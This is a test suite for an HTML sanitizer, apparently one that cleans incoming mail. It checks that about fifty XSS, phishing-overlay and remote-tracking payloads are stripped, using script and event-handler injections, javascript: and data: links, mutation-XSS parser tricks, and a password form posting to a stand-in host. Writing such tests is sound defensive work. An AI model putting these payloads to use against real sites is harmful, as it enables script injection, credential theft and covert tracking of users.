import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanHtml, textOfHtml } from './html.ts';
import { cpuMs } from './testing/cpu.ts';

const blocked = { images: 'block' as const, cid: () => null };
const clean = (html: string) => cleanHtml(html, blocked).html;

/** Own payloads: each would run, load, leak or deceive if it got through. */
const attacks: [string, string][] = [
  ['script', '<script>steal()</script>ok'],
  ['script in upper case with a broken end', '<SCRIPT SRC=//e.test/x.js></SCRIPT foo>ok'],
  ['event handler', '<img src=x onerror=steal()>'],
  ['handler after a slash', '<img/src/onerror=steal()//>'],
  ['svg with a handler', '<svg onload=steal()><animate onbegin=steal() attributeName=x></svg>'],
  [
    'math that changes the parser',
    '<math><mtext><table><mglyph><style><img src onerror=steal()></style></table></mtext></math>',
  ],
  [
    'noscript that changes the parser',
    '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  ],
  ['tag in a tag', '<scr<script>ipt>steal()</scr</script>ipt>'],
  ['javascript link', '<a href="javascript:steal()">x</a>'],
  ['javascript link with a tab', '<a href="java\tscript:steal()">x</a>'],
  ['javascript link with entities', '<a href="&#106;avascript&colon;steal()">x</a>'],
  ['data link', '<a href="data:text/html,<script>steal()</script>">x</a>'],
  ['vbscript link', '<a href=vbscript:msgbox(1)>x</a>'],
  ['relative link into our house', '<a href="/api/people/me?delete=1">x</a>'],
  ['frame', '<iframe src="https://e.test"></iframe>'],
  ['frame with its own document', '<iframe srcdoc="<script>steal()</script>"></iframe>'],
  ['object', '<object data="https://e.test/x.swf"></object><embed src="https://e.test/x.swf">'],
  [
    'form',
    '<form action="https://e.test"><input name=password><button formaction="//e.test">in</button></form>',
  ],
  ['base', '<base href="https://e.test/">'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=https://e.test">'],
  ['style sheet', '<style>@import url(https://e.test/x.css); body{display:none}</style>'],
  ['linked sheet', '<link rel=stylesheet href="https://e.test/x.css">'],
  ['preload', '<link rel="preload" as=image href="https://e.test/p.png">'],
  ['background attribute', '<table background="https://e.test/p.png"><tr><td background="//e.test/p.png">x'],
  ['style url', '<div style="background-image:url(https://e.test/p.png)">x</div>'],
  ['style url in a short hand', `<div style="background: #fff url('//e.test/p.png')">x</div>`],
  ['style url with an escape', '<div style="background:u\\72l(https://e.test/p.png)">x</div>'],
  ['style image-set', '<div style="background-image:image-set(\'https://e.test/p.png\' 1x)">x</div>'],
  ['list picture', '<ul style="list-style-image:url(https://e.test/p.png)"><li>x</ul>'],
  ['cursor', '<p style="cursor:url(https://e.test/p.cur),auto">x</p>'],
  ['expression', '<p style="width:expression(steal())">x</p>'],
  ['cover of the page', '<div style="position:fixed;top:0;left:0;width:100%;z-index:9999">log in</div>'],
  ['negative margin', '<div style="margin-top:-900px">x</div>'],
  ['srcset', '<img srcset="https://e.test/p.png 1x">'],
  ['picture source', '<picture><source srcset="https://e.test/p.png"></picture>'],
  ['video poster', '<video poster="https://e.test/p.png" src="https://e.test/v.mp4"></video>'],
  ['audio', '<audio src="https://e.test/a.mp3" autoplay></audio>'],
  ['input picture', '<input type=image src="https://e.test/p.png">'],
  ['svg picture as data', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4=">'],
  [
    'svg foreign picture',
    '<svg><image href="https://e.test/p.png"/><use href="https://e.test/x.svg#a"/></svg>',
  ],
  ['class and id', '<p id="root" class="mantine-Modal-overlay">x</p>'],
  ['ping', '<a href="https://e.test" ping="https://e.test/p">x</a>'],
  ['comment trick', '<!--><img src=x onerror=steal()>-->'],
  ['conditional comment', '<!--[if gte mso 9]><img src="https://e.test/p.png"><![endif]-->'],
  ['template', '<template><img src=x onerror=steal()></template>'],
  ['textarea end', '<textarea></textarea><img src=x onerror=steal()></textarea>'],
  ['xml name space', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">steal()</x:script>'],
  ['protocol-relative picture', '<img src="//e.test/p.png">'],
  ['picture with a control before it', '<img src="\u0001https://e.test/p.png">'],
];

const forbidden = [
  /<(?!\/?(?:a|p|div|span|table|tbody|tr|td|ul|li|img|br|b|blockquote)\b)[a-z!/]/i,
  /<[^>]*\son\w+\s*=/i,
  /<[^>]*(?:src|srcset|background|poster|ping|formaction|action|id|class)\s*=/i,
  /<[^>]*(?:url\(|expression|position|image-set|javascript:|vbscript:)/i,
  /<[^>]*href="(?!https:\/\/e\.test")/i,
  /margin-top:-/,
];

describe('foreign HTML (lessons 50, 51, 68, 72)', () => {
  it.each(attacks)('%s does not get through', (_name, html) => {
    const out = clean(html);
    for (const pattern of forbidden) expect(out).not.toMatch(pattern);
  });

  it('keeps what a letter is made of', () => {
    const html =
      '<div style="color:#333;font-family:Arial, sans-serif;font-size:12px"><p align="center">Olá, <b>Ana</b><br />até <a href="https://loja.test/p?a=1&amp;b=2">já</a></p><table border="1" width="100%"><tbody><tr><td colspan="2" bgcolor="#eeeeee">R$ 10</td></tr></tbody></table></div>';
    const out = clean(html);
    for (const part of ['color:#333', 'font-size:12px', '<b>Ana</b>', 'colspan="2"', 'bgcolor="#eeeeee"'])
      expect(out).toContain(part);
    expect(out).toContain(
      'href="https://loja.test/p?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow"',
    );
  });

  it('blocks remote pictures until asked and counts them', () => {
    const html =
      '<img src="https://e.test/p.png" width="1"><td background="https://e.test/q"><p style="background:url(https://e.test/r)">';
    expect(cleanHtml(html, blocked).blocked).toBe(3);
    const shown = cleanHtml(html, { ...blocked, images: 'show' });
    expect(shown.html).toContain('src="https://e.test/p.png"');
    expect(shown.html).not.toContain('e.test/q');
  });

  it('points inline pictures at our own files', () => {
    const own = { images: 'block' as const, cid: (id: string) => (id === 'a@b' ? '/files/1' : null) };
    expect(cleanHtml('<img src="cid:a%40b" alt="x">', own)).toEqual({
      html: '<img alt="x" src="/files/1" />',
      blocked: 0,
    });
    expect(cleanHtml('<img src="cid:other">', own).html).toBe('<img />');
    expect(cleanHtml('<img src="data:image/png;base64,iVBOR=">', own).html).toContain('data:image/png');
  });

  // Where a cell lies in a cell, or a paragraph in a paragraph, the second reading closes the first one: tags without
  // attributes may come and move. Words and attributes may not.
  const wordsOf = (html: string): string => html.replace(/<[^>]*>/g, '');
  const attributesOf = (html: string): string[] => html.match(/\s[\w-]+="[^"]*"/g) ?? [];

  it('a second cleaning finds nothing more, whatever comes', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '/',
      '=',
      'img',
      'svg',
      'style',
      'math',
      'src',
      'onerror',
      '<!--',
      '-->',
      '<p>',
      '</p>',
      'a',
      '&lt;',
      '&#x3c;',
      '\u0000',
      ' ',
      '<a href=',
      'java',
      'script:',
      '<table>',
      '<td>',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const once = clean(pieces.join(''));
        const twice = clean(once);
        expect([wordsOf(twice), attributesOf(twice)]).toEqual([wordsOf(once), attributesOf(once)]);
        expect(once).not.toMatch(/<[^>]*\son\w+=/i);
      }),
      { numRuns: 300 },
    );
  });

  it('stays quick on hostile nesting and length', () => {
    const start = cpuMs();
    for (const html of [
      '<div>'.repeat(50_000),
      '<b '.repeat(100_000),
      '<a href="'.repeat(50_000),
      `<p style="${'a:b;'.repeat(100_000)}">`,
    ]) {
      clean(html);
      textOfHtml(html);
    }
    expect(cpuMs() - start).toBeLessThan(20_000);
  });
});

describe('text of HTML', () => {
  it('reads as a letter does', () => {
    expect(
      textOfHtml(
        '<style>p{}</style><h1>Olá</h1><p>um<br>dois</p><p>três <a href="https://l.test/x">aqui</a></p>',
      ),
    ).toBe('Olá\n\num\ndois\n\ntrês aqui <https://l.test/x>');
  });
  it('marks quotes', () => {
    expect(textOfHtml('<p>sim</p><blockquote>não?<blockquote>fundo</blockquote></blockquote>')).toBe(
      'sim\n\n> não?\n> \n> > fundo'.replace('> \n', '>\n'),
    );
  });
});
